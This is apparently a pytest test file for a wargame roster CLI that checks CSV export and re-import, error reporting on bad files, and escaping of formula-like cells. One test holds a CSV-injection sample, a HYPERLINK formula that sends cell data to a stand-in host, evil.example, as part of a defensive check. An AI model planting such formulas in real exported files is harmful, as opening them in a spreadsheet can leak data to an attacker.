"""Rosters as CSV: every roster view written with ``--format csv`` (its table's columns, then the muster inputs
it does not show), and each ruleset's ``muster --from FILE.csv``; written out and mustered back in, a roster is
the same; a bad file is refused naming its row and column, and nothing is appended."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from tests.e2e.test_cli import Cli

MUSTERS = {
    "fighting-spirit": [
        # the platoon is listed before its company (sorted by name): mustered after it all the same
        ["fs", "muster", "Company HQ", "--side", "Steel", "--quality", "veteran", "--lv", "2", "--size", "5",
         "--radio"],
        ["fs", "muster", "2nd Platoon", "--side", "Steel", "--quality", "regular", "--lv", "3", "--size", "10",
         "--reports-to", "Company HQ"],
        ["fs", "muster", "Keno 3rd Squad", "--side", "Keno", "--quality", "green", "--lv", "2", "--size", "7",
         "--keno-guard", "--psi-rank", "pupil"],
    ],
    "mass-combat": [
        ["mc", "muster", "Caliburn's gang", "--side", "Megalos", "--men", "15", "--armour", "light", "--irregular",
         "--troop-type", "LI", "--quality", "inexperienced", "--experience", "0"],
        ["mc", "muster", "LC archers", "--side", "Al-Wazif", "--men", "100", "--mount", "light_horse", "--ranged",
         "bow", "--troop-type", "LC", "--set", "non_human={\"st_mod\": 2}"],
    ],
    "disorder": [
        ["dis", "muster", "95th Rifles", "--side", "British", "--models", "10", "--troops", "rifles", "--points",
         "100"],
        ["dis", "muster", "Voltigeurs", "--side", "French", "--models", "12", "--troops", "light", "--points", "90"],
    ],
    "grimdark": [
        ["gf", "muster", "Saurian Warriors", "--side", "Saurians", "--size", "10", "--quality", "4", "--points",
         "165", "--defense", "5", "--xp", "6", "--trait", "Agile"],
        ["gf", "muster", "Saurian Hero", "--side", "Saurians", "--size", "1", "--quality", "3", "--tough", "3",
         "--hero", "--points", "60", "--skill-set", "Captain", "--trait", "Toughened", "--trait", "Leader"],
        ["gf", "muster", "Robot Tank", "--side", "Robots", "--size", "1", "--quality", "4", "--tough", "12",
         "--fearless", "--points", "200"],
    ],
}  # fmt: skip
PREFIX = {"fighting-spirit": "fs", "mass-combat": "mc", "disorder": "dis", "grimdark": "gf"}


def mustered(tmp_path: Path, ruleset: str, name: str = "first") -> Cli:
    cli = Cli(str(tmp_path / f"{name}.db"))
    cli("new", "Roster", "--ruleset", ruleset)
    for line in MUSTERS[ruleset]:
        cli(*line)
    return cli


def rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


@pytest.mark.parametrize("ruleset", list(MUSTERS))
def test_status_written_as_csv_and_mustered_back_gives_the_same_roster(tmp_path: Path, ruleset: str) -> None:
    first = mustered(tmp_path, ruleset)
    written = first("status", "--format", "csv").stdout
    path = tmp_path / "roster.csv"
    path.write_text(written, encoding="utf-8")
    second = Cli(str(tmp_path / "second.db"))
    second("new", "Roster", "--ruleset", ruleset)
    second(PREFIX[ruleset], "muster", "--from", str(path))
    assert second("status", "--format", "csv").stdout == written
    assert [u["name"] for u in rows(written)] == [u["name"] for u in first.json("status")["units"]]
    if ruleset != "fighting-spirit":  # whose roster is the battle being fought
        # the same units under the ruleset's own roster view too
        ruleset_view = (PREFIX[ruleset], "roster", "--format", "csv")
        # (Mass Combat's lists the units in the order they were mustered: the file's order, here by side)
        assert sorted(second(*ruleset_view).stdout.splitlines()) == sorted(first(*ruleset_view).stdout.splitlines())


def test_the_csv_has_the_tables_columns_in_order_then_the_muster_inputs_the_table_lacks(tmp_path: Path) -> None:
    cli = mustered(tmp_path, "grimdark")
    text = cli("gf", "roster", "--format", "csv").stdout
    header = text.splitlines()[0].split(",")
    # the table: unit, side, models, Q, pts, XP, traits, on the table (why a unit left the roster apart)
    assert header[:9] == ["name", "side", "models", "quality", "points", "xp", "traits", "on_the_table", "off_roster"]
    assert header[9:] == ["defense", "tough", "fearless", "hero", "skill_set"]
    hero = next(r for r in rows(text) if r["name"] == "Saurian Hero")
    said = (hero["traits"], hero["tough"], hero["hero"], hero["skill_set"])
    assert said == ("Toughened; Leader", "3", "yes", "Captain")
    assert "--format csv and --json: choose one" in cli("gf", "roster", "--format", "csv", "--json", code=2).output


def test_a_spreadsheets_own_file_with_semicolons_and_a_byte_order_mark_musters(tmp_path: Path) -> None:
    cli = Cli(str(tmp_path / "gf.db"))
    cli("new", "Roster", "--ruleset", "grimdark")
    path = tmp_path / "army.csv"
    path.write_bytes("\ufeffName;Side;Models;Quality;Points;Tough;Traits\n"
                     "Raptors;Saurians;5;4+;100;3;\"Agile; Headstrong\"\n".encode())  # fmt: skip
    cli("gf", "muster", "--from", str(path))
    (raptors,) = cli.json("gf", "roster")["units"]
    assert (raptors["models"], raptors["quality"], raptors["tough"], raptors["traits"]) == (
        5, 4, 3, ["Agile", "Headstrong"],
    )  # fmt: skip


def test_a_name_a_spreadsheet_would_run_as_a_formula_is_written_as_text_and_mustered_back_the_same(
    tmp_path: Path,
) -> None:
    """A player may name a unit ``=HYPERLINK(…)`` or ``@SUM(1+1)``: written as it is, a spreadsheet opening the GM's
    roster would run it (OWASP's CSV injection). A text cell that starts as a formula does (=, +, -, @, tab) is
    written after a ``'``, and mustered back without it; a name of its own starting with ``'`` is kept."""
    cli = Cli(str(tmp_path / "gf.db"))
    cli("new", "Roster", "--ruleset", "grimdark")
    names = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "@SUM(1+1)", "+Raptors", "-Raptors", "'Ard Boyz"]
    for name in names:  # after "--": a name starting with "-" is no option
        cli("gf", "muster", "--side", "Saurians", "--size", "5", "--quality", "4", "--points", "50", "--", name)
    written = cli("gf", "roster", "--format", "csv").stdout
    cells = {r["name"] for r in rows(written)}
    assert cells == {"'" + n for n in names[:4]} | {"'Ard Boyz"}
    assert not any(cell.startswith(("=", "+", "-", "@")) for r in rows(written) for cell in r.values())
    path = tmp_path / "roster.csv"
    path.write_text(written, encoding="utf-8")
    second = Cli(str(tmp_path / "second.db"))
    second("new", "Roster", "--ruleset", "grimdark")
    second("gf", "muster", "--from", str(path))
    assert sorted(u["unit"] for u in second.json("gf", "roster")["units"]) == sorted(names)


@pytest.mark.parametrize(
    ("text", "said"),
    [
        ("name,side,models,quality,points\nA,S,10,x,100\n", "row 2, column quality: 'x' is not a whole number"),
        ("name,side,models,quality,points\nA,S,10,4,100\nB,S,0,4,100\n", "row 3, column models: models must be at"),
        ("name,side,models,qualty,points\nA,S,10,4,100\n", "column 4 ('qualty') is not a muster input"),
        ("name,side,models,points\nA,S,10,100\n", "has no column quality: every unit needs it"),
        ("name,side,models,quality,points\nA,S,10,4,100\n,S,10,4,100\n", "row 3, column name: empty"),
        ("name,side,models,quality,points\nA,S,10,4,100\nA,T,5,4,50\n", "row 3: a unit named 'A' is already"),
        ("name,side,models,quality,points,hero\nA,S,10,4,100,maybe\n", "row 2, column hero: 'maybe' is not yes"),
        ("name,side,models,quality,points\nA,S,10,4,100,9\n", "row 2: 6 cells under a header of 5 columns"),
    ],
)
def test_a_bad_file_is_refused_naming_row_and_column_and_nothing_is_appended(
    tmp_path: Path, text: str, said: str
) -> None:
    cli = Cli(str(tmp_path / "gf.db"))
    cli("new", "Roster", "--ruleset", "grimdark")
    path = tmp_path / "army.csv"
    path.write_text(text, encoding="utf-8")
    before = cli.events()
    refused = cli("gf", "muster", "--from", str(path), code=2)
    assert said in " ".join(refused.output.split())
    assert cli.events() == before


def test_rows_of_units_no_longer_serving_are_left_out_and_said(tmp_path: Path) -> None:
    first = mustered(tmp_path, "disorder")
    first("dis", "disband", "Voltigeurs", "--reason", "sold")
    path = tmp_path / "roster.csv"
    path.write_text(first("dis", "roster", "--format", "csv").stdout, encoding="utf-8")
    second = Cli(str(tmp_path / "second.db"))
    second("new", "Roster", "--ruleset", "disorder")
    said = second("dis", "muster", "--from", str(path)).stdout
    assert "left out: the unit is no longer serving (sold)" in said
    assert [u["name"] for u in second.json("status")["units"]] == ["95th Rifles"]


def test_a_muster_from_a_file_takes_no_other_unit_inputs_and_one_undo_takes_it_back(tmp_path: Path) -> None:
    first = mustered(tmp_path, "grimdark")
    path = tmp_path / "roster.csv"
    path.write_text(first("gf", "roster", "--format", "csv").stdout, encoding="utf-8")
    second = Cli(str(tmp_path / "second.db"))
    second("new", "Roster", "--ruleset", "grimdark")
    refused = second("gf", "muster", "--side", "Saurians", "--from", str(path), code=2)
    assert "--from reads every unit from" in refused.output and "leave out --side" in refused.output
    assert "--quality and --points are needed (or --from FILE.csv" in second("gf", "muster", "X", "--side", "S",
                                                                            code=2).output  # fmt: skip
    second("gf", "muster", "--from", str(path))
    assert len(second.json("status")["units"]) == 3
    assert second.json("verify")[0]["ok"] is True
    second("undo")
    assert second.json("status")["units"] == []
